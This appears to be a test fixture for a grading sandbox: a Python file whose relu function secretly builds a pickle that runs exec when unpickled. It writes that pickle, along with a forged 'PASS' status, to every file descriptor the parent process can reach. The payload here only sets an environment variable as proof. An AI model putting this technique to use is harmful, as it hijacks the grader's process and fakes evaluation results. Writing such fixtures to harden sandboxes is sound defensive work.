"""Hostile: sends the parent a pickle that runs code when unpickled (multiprocessing's Connection
format: a 4-byte big-endian length, then the pickle), on every descriptor it can reach."""
import os
import pickle
import struct

import numpy as np


class Payload:
    def __reduce__(self):  # in the parent, this sets an environment variable: the proof
        return (exec, ("import os; os.environ['TWINNET_HOSTILE_UNPICKLED'] = '1'",))


def relu(Z):
    data = pickle.dumps({"status": "PASS", "payload": Payload()})
    for fd in range(3, 64):
        for message in (struct.pack("!i", len(data)) + data, struct.pack("<Q", len(data)) + data):
            try:
                os.write(fd, message)
            except OSError:
                pass
    return np.abs(Z), Z  # wrong
